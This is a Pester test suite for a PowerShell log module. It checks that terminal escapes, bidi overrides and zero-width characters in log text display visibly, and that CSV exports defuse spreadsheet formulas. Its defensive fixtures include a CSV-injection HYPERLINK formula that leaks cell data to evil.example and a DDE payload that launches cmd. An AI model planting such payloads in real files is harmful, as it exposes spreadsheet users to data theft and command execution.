# Log text is untrusted, as an attacker would write it (issue 12, item 5): what reaches the terminal and a
# spreadsheet. The fixtures are generated here: syslog lines carrying terminal escapes (SGR colour, clear screen,
# OSC window title), BEL, backspace, the C1 control CSI (U+009B), a right-to-left override and a zero-width space;
# file names holding ESC (Linux allows any byte but / and NUL); an address argument with an escape; and a message
# that is a spreadsheet formula (=HYPERLINK, as in OWASP's CSV injection page).
BeforeAll {
    Import-Module OpsLogTools -Force
    $script:ESC = [char]27
    $script:RLO = [char]0x202E
    $script:ZWSP = [char]0x200B
    $script:CSI = [char]0x9B

    # As on a terminal: PowerShell keeps escape sequences in what it prints (redirected, it would strip some of
    # them itself and hide a leak). Its own styling is switched off, so the only escape it adds is its reset ESC[0m.
    $script:savedRendering = $PSStyle.OutputRendering
    $script:savedStyles = @{}
    foreach ($p in $PSStyle.Formatting.PSObject.Properties) { $savedStyles[$p.Name] = $p.Value; $PSStyle.Formatting.($p.Name) = '' }
    $PSStyle.OutputRendering = 'Ansi'

    # Every character that must never reach the terminal raw: C0 but line feed and carriage return (the formatter's own
    # line ends), DEL, C1, the bidi marks, embeddings, overrides and isolates, the zero-width characters, the BOM.
    $script:hiddenPattern = '[\x00-\x09\x0B\x0C\x0E-\x1F\x7F-\x9F\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]'
    function script:Get-Hidden([string] $Text) {
        $plain = $Text.Replace("$ESC[0m", '')   # PowerShell's own reset, the one escape it still writes
        @([regex]::Matches($plain, $hiddenPattern) | ForEach-Object { 'U+{0:X4}' -f [int][char]$_.Value })
    }
    function script:Get-Count([string] $Text, [string] $Part) { ($Text.Length - $Text.Replace($Part, '').Length) / $Part.Length }

    $script:dir = Join-Path $TestDrive 'hostile'
    New-Item -ItemType Directory $dir | Out-Null
    $script:messages = Join-Path $dir 'messages'
    $lines = @(
        "Nov 25 03:04:05 web1 app[100]: colour $ESC[31mRED$ESC[0m and clear $ESC[2J and title $ESC]0;owned$([char]7)"
        "Nov 25 03:04:06 web1 app[100]: bell$([char]7) back$([char]8)space csi$($CSI)2J"
        "Nov 25 03:04:07 web1 sshd[200]: Invalid user user$($RLO)gnp.exe$([char]0x202C) from 203.0.113.9 port 22"
        "Nov 25 03:04:08 web1 app[100]: ad$($ZWSP)min hidden"
    )
    [IO.File]::WriteAllText($messages, ($lines -join "`n") + "`n", [Text.UTF8Encoding]::new($false))
    $script:reference = '2026-11-26T00:00:00+00:00'
    # Files whose names hold ESC live outside TestDrive: Pester clears TestDrive with wildcard paths, which '[' breaks.
    $script:oddNames = Join-Path ([IO.Path]::GetTempPath()) "opslogtools-sanitize-$PID-$(Get-Random)"
    [IO.Directory]::CreateDirectory($oddNames) | Out-Null
    $script:entries = @(Get-LogEntry -LiteralPath $messages -ReferenceDate $reference)
}

AfterAll {
    if ($oddNames -and [IO.Directory]::Exists($oddNames)) { [IO.Directory]::Delete($oddNames, $true) }
    $PSStyle.OutputRendering = $savedRendering
    foreach ($k in $savedStyles.Keys) { $PSStyle.Formatting.$k = $savedStyles[$k] }
}

Describe 'Views show log text visibly' {
    It 'reads the hostile lines as they are (the objects keep the original text)' {
        $entries.Count | Should -Be 4
        $entries[0].Message.Contains("$ESC[31m") | Should -BeTrue
        $entries[2].Message.Contains("user$($RLO)gnp") | Should -BeTrue
    }

    It 'Format-Table prints no control, bidi or zero-width character' {
        $text = $entries | Format-Table | Out-String -Width 400
        Get-Hidden $text | Should -BeNullOrEmpty
        $text | Should -BeLike '*␛`[31mRED*'
        $text | Should -BeLike '*user\u202egnp.exe\u202c*'
    }

    It 'Format-List prints no control, bidi or zero-width character' {
        $text = $entries | Format-List | Out-String -Width 400
        Get-Hidden $text | Should -BeNullOrEmpty
        $text | Should -BeLike '*␛`[2J*␛]0;owned␇*'
        $text | Should -BeLike '*bell␇ back␈space csi\u009b2J*'
        $text | Should -BeLike '*ad\u200bmin*'
        $text | Should -Match 'Message\s+: Invalid user user\\u202egnp'
    }

    It 'Out-String of the entries (the default view) prints no hidden character' {
        Get-Hidden ($entries | Out-String -Width 400) | Should -BeNullOrEmpty
    }

    It 'keeps working on objects read back with Import-Clixml (property bags, no live type)' {
        $xml = Join-Path $TestDrive 'entries.xml'
        $entries | Export-Clixml $xml
        $back = @(Import-Clixml $xml)
        $back[0].PSObject.TypeNames[0] | Should -Be 'Deserialized.OpsLogTools.Core.Model.LogEntry'
        $back[0].Message.Contains("$ESC[31m") | Should -BeTrue   # the data still holds the raw text...
        foreach ($shape in 'Format-Table', 'Format-List') {
            $text = $back | & $shape | Out-String -Width 400  # ...and the views still show it visibly
            Get-Hidden $text | Should -BeNullOrEmpty -Because $shape
            $text | Should -BeLike '*␛`[31mRED*' -Because $shape
            $text | Should -BeLike '*user\u202egnp*' -Because $shape
        }
    }

    It 'shows the story of a login by a right-to-left user name visibly (Get-LogTimeline -Summary)' {
        $bundle = Join-Path $TestDrive 'story'
        New-Item -ItemType Directory $bundle | Out-Null
        [IO.File]::WriteAllText((Join-Path $bundle 'secure'),
            "Nov 25 03:04:07 web1 sshd[200]: Accepted password for user$($RLO)gnp.exe$([char]0x202C) from 203.0.113.9 port 22 ssh2`n")
        $story = @(Get-LogTimeline $bundle -Summary -ReferenceDate $reference 3>$null)
        $story.Count | Should -BeGreaterThan 0
        $story[0].Summary.Contains($RLO) | Should -BeTrue
        foreach ($shape in 'Format-Table', 'Format-List') {
            $text = $story | & $shape | Out-String -Width 400
            Get-Hidden $text | Should -BeNullOrEmpty -Because $shape
            $text | Should -BeLike '*user\u202egnp.exe\u202c*' -Because $shape
        }
        $events = Get-LogTimeline $bundle -ReferenceDate $reference 3>$null | Format-List | Out-String -Width 400
        Get-Hidden $events | Should -BeNullOrEmpty
    }

    It 'gives every output type a list view that names every property and shows no string raw' {
        $base = (Get-Module OpsLogTools).ModuleBase
        $views = foreach ($file in Get-ChildItem $base -Filter *.Format.ps1xml) { ([xml](Get-Content -Raw $file)).Configuration.ViewDefinitions.View }
        $types = (Get-Command -Module OpsLogTools -CommandType Cmdlet).OutputType.Type | Where-Object { $_ -and $_.Namespace -like 'OpsLogTools*' } | Sort-Object FullName -Unique
        $types.Count | Should -BeGreaterOrEqual 10
        foreach ($type in $types) {
            $list = @($views | Where-Object { @($_.ViewSelectedBy.TypeName) -contains $type.FullName -and $_.ListControl })
            $list.Count | Should -Be 1 -Because "$($type.FullName) needs one list view"
            $items = @($list[0].ListControl.ListEntries.ListEntry.ListItems.ListItem)
            $shown = @($items | ForEach-Object { if ($_.PropertyName) { $_.PropertyName } else { $_.Label } })
            $expected = @($type.GetProperties([Reflection.BindingFlags]'Public, Instance').Name)
            if ($type.Name -eq 'GroundTruth') { $expected += 'Path' }   # New-OpsLogSample adds the bundle's path
            $shown | Sort-Object | Should -Be ($expected | Sort-Object) -Because "the list view of $($type.Name) shows what Format-List * would"
        }
        # No string (or list, or nested object) is shown by PropertyName in any view: each goes through Visible.
        foreach ($view in $views) {
            # Views for Deserialized.* names (property bags) may come; the live type's properties are what is checked.
            $type = @($view.ViewSelectedBy.TypeName) -notlike 'Deserialized.*' | ForEach-Object { $_ -as [type] } | Select-Object -First 1
            if (-not $type) { continue }
            $named = @($view.TableControl.TableRowEntries.TableRowEntry.TableColumnItems.TableColumnItem.PropertyName) +
                @($view.ListControl.ListEntries.ListEntry.ListItems.ListItem.PropertyName) | Where-Object { $_ }
            foreach ($name in $named) {
                $pt = $type.GetProperty($name).PropertyType
                $pt = if ([Nullable]::GetUnderlyingType($pt)) { [Nullable]::GetUnderlyingType($pt) } else { $pt }
                ($pt.IsEnum -or $pt.IsPrimitive -or $pt -in [DateTimeOffset], [TimeSpan], [decimal]) |
                    Should -BeTrue -Because "$($view.Name) shows $name ($($pt.Name)) without ConsoleText.Visible"
            }
            $scripts = @($view.TableControl.TableRowEntries.TableRowEntry.TableColumnItems.TableColumnItem.ScriptBlock) +
                @($view.ListControl.ListEntries.ListEntry.ListItems.ListItem.ScriptBlock) | Where-Object { $_ }
            foreach ($code in $scripts | Where-Object { $_ -match '\$_\.(Path|Message|Program|ClientIp|Summary|Evidence|Address|Rule|Target|UserAgent|Referer|Verdict|Schedule)\b' }) {
                $code | Should -Match 'ConsoleText\]::Visible' -Because "$($view.Name): $code"
            }
        }
    }
}

Describe 'Warnings, errors and verbose lines show file names and arguments visibly' {
    It 'names a file whose name holds ESC visibly, once, in warnings and verbose lines' {
        $file = Join-Path $oddNames "messages$ESC[2J"
        [IO.File]::WriteAllText($file, "Nov 25 03:04:05 web1 app[1]: hello`nthis is not a syslog line`nNov 25 03:04:06 web1 app[1]: again`n")
        # -TimeZone: the zone is given, so the one warning is the malformed line's (without it the guess warning names the file too)
        $out = @(Get-LogEntry -LiteralPath $file -ReferenceDate $reference -TimeZone UTC -Verbose -WarningAction Continue 3>&1 4>&1)
        $warnings = @($out | Where-Object { $_ -is [System.Management.Automation.WarningRecord] })
        $verbose = @($out | Where-Object { $_ -is [System.Management.Automation.VerboseRecord] })
        $warnings.Count | Should -Be 1
        $verbose.Count | Should -BeGreaterThan 0
        foreach ($record in $warnings + $verbose) { Get-Hidden $record.Message | Should -BeNullOrEmpty -Because $record.Message }
        Get-Count $warnings[0].Message 'messages␛[2J' | Should -Be 1
        Get-Hidden (($out | Out-String -Width 400)) | Should -BeNullOrEmpty
    }

    It 'names a truncated gzip whose name holds ESC visibly and once in its error' {
        $gz = Join-Path $oddNames "old$ESC[31m.gz"
        $buffer = [IO.MemoryStream]::new()
        $zip = [IO.Compression.GZipStream]::new($buffer, [IO.Compression.CompressionLevel]::Optimal, $true)
        $bytes = [Text.Encoding]::UTF8.GetBytes(("Nov 25 03:04:05 web1 app[1]: hello`n" * 40))
        $zip.Write($bytes, 0, $bytes.Length); $zip.Dispose()
        [IO.File]::WriteAllBytes($gz, $buffer.ToArray()[0..($buffer.Length - 9)])   # the trailer cut: truncated
        $null = Get-LogEntry -LiteralPath $gz -ReferenceDate $reference -ErrorVariable err -ErrorAction SilentlyContinue
        $err.Count | Should -Be 1
        $err[0].FullyQualifiedErrorId | Should -BeLike 'TruncatedGzip,*'
        foreach ($text in $err[0].ToString(), $err[0].Exception.Message, [string]$err[0].TargetObject, $err[0].CategoryInfo.ToString(), ($err[0] | Out-String -Width 400)) {
            Get-Hidden $text | Should -BeNullOrEmpty -Because $text
        }
        Get-Count $err[0].ToString() "old␛[31m.gz" | Should -Be 1
        $err[0].ToString() | Should -BeLike '*truncated gzip*'
    }

    It 'names a missing path holding ESC visibly' {
        $null = Get-LogEntry -LiteralPath (Join-Path $oddNames "missing$ESC[31m") -ErrorVariable err -ErrorAction SilentlyContinue
        $err[0].FullyQualifiedErrorId | Should -BeLike 'FileNotFound,*'
        foreach ($text in $err[0].ToString(), [string]$err[0].TargetObject, $err[0].CategoryInfo.ToString(), ($err[0] | Out-String -Width 400)) {
            Get-Hidden $text | Should -BeNullOrEmpty -Because $text
        }
        $err[0].ToString() | Should -BeLike '*missing␛`[31m*'
    }

    It 'refuses an address argument holding an escape with a visible message, once' {
        $out = @(ConvertTo-BlockRule -IpAddress "1.2.3.4$ESC[31m" -Format Nginx -ErrorAction Continue 2>&1)   # the suite runs with Stop
        $errors = @($out | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] })
        $errors.Count | Should -Be 1
        $e = $errors[0]
        foreach ($text in $e.ToString(), $e.Exception.Message, [string]$e.TargetObject, $e.CategoryInfo.ToString(), ($out | Out-String -Width 400)) {
            Get-Hidden $text | Should -BeNullOrEmpty -Because $text
        }
        Get-Count $e.ToString() '1.2.3.4' | Should -Be 1
        $e.ToString() | Should -BeLike '*1.2.3.4␛`[31m*'
        $normal = & { $ErrorView = 'NormalView'; $e | Out-String -Width 400 }
        Get-Hidden $normal | Should -BeNullOrEmpty
    }

    It 'shows an -TrustedProxy argument holding an escape visibly' {
        $null = Find-BotRequest -Path $messages -TrustedProxy "10.0.0.0/8$ESC]0;x$([char]7)" -ErrorVariable err -ErrorAction SilentlyContinue -WarningAction SilentlyContinue
        $bad = @($err | Where-Object FullyQualifiedErrorId -like 'InvalidTrustedProxy,*')
        $bad.Count | Should -Be 1
        Get-Hidden ($bad[0] | Out-String -Width 400) | Should -BeNullOrEmpty
    }
}

Describe 'CSV of the module''s objects is safe to open in a spreadsheet' {
    BeforeAll {
        $formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
        $script:csvLog = Join-Path $TestDrive 'formula'
        New-Item -ItemType Directory $csvLog | Out-Null
        $script:csvFile = Join-Path $csvLog 'messages'
        [IO.File]::WriteAllText($csvFile, "Nov 25 03:04:05 web1 app[1]: $formula`nNov 25 03:04:06 web1 app[1]: @SUM(1+1)*cmd|' /C calc'!A0`nNov 25 03:04:07 web1 app[1]: plain words`n")
        $script:formulaEntries = @(Get-LogEntry -LiteralPath $csvFile -ReferenceDate $reference)
        $script:formula = $formula
    }

    It 'Export-Csv writes the formula defused, with a leading apostrophe' {
        $path = Join-Path $TestDrive 'entries.csv'
        $formulaEntries | Export-Csv -Path $path
        $raw = Get-Content -Raw $path
        $raw | Should -Not -Match '(?m)(^|,)"?[=+\-@]'          # no cell starts a formula
        $rows = @(Import-Csv $path)
        $rows[0].Message | Should -Be "'$formula"
        $rows[1].Message | Should -BeLike "'@SUM*"
        $rows[2].Message | Should -Be 'plain words'
        $rows[0].LineNumber | Should -Be '1'
    }

    It 'ConvertTo-Csv, Select-Object output and Import-Clixml objects are defused too' {
        ($formulaEntries | ConvertTo-Csv | ConvertFrom-Csv)[0].Message | Should -Be "'$formula"
        ($formulaEntries | Select-Object Timestamp, Message | ConvertTo-Csv | ConvertFrom-Csv)[0].Message | Should -Be "'$formula"
        (ConvertTo-Csv -InputObject $formulaEntries[0] | ConvertFrom-Csv).Message | Should -Be "'$formula"
        $xml = Join-Path $TestDrive 'formula.xml'
        $formulaEntries | Export-Clixml $xml
        (Import-Clixml $xml | ConvertTo-Csv | ConvertFrom-Csv)[0].Message | Should -Be "'$formula"
    }

    It 'keeps the built-in cmdlet''s parameters and leaves other objects alone' {
        $path = Join-Path $TestDrive 'append.csv'
        $formulaEntries[0] | Export-Csv -LiteralPath $path -Encoding utf8 -UseQuotes AsNeeded
        $formulaEntries[2] | Export-Csv -LiteralPath $path -Append -Encoding utf8 -UseQuotes AsNeeded
        @(Import-Csv $path).Count | Should -Be 2
        ([pscustomobject]@{ Value = '=1+1' } | ConvertTo-Csv)[1] | Should -Be '"=1+1"'
        (Get-Command Export-Csv).Source | Should -Be 'OpsLogTools'
        (Microsoft.PowerShell.Utility\ConvertTo-Csv -InputObject $formulaEntries[0] | ConvertFrom-Csv).Message | Should -Be $formula
    }

    It 'leaves the objects themselves, -like and JSON with the original text' {
        @($formulaEntries | Where-Object Message -like '=HYPERLINK*').Count | Should -Be 1
        ($formulaEntries[0] | ConvertTo-Json | ConvertFrom-Json).Message | Should -Be $formula
        $formulaEntries[0].Message | Should -Be $formula
    }

    It 'keeps numbers as numbers: a negative offset is not defused' {
        $anomaly = Get-LogAnomaly (Join-Path (Get-Module OpsLogTools).ModuleBase Sample) -Kind DisplacedTimestamps 3>$null | Select-Object -First 1
        $row = $anomaly | ConvertTo-Csv | ConvertFrom-Csv
        [double]$row.OffsetSeconds | Should -Be $anomaly.OffsetSeconds
        $row.OffsetSeconds | Should -Not -BeLike "'*"
    }
}
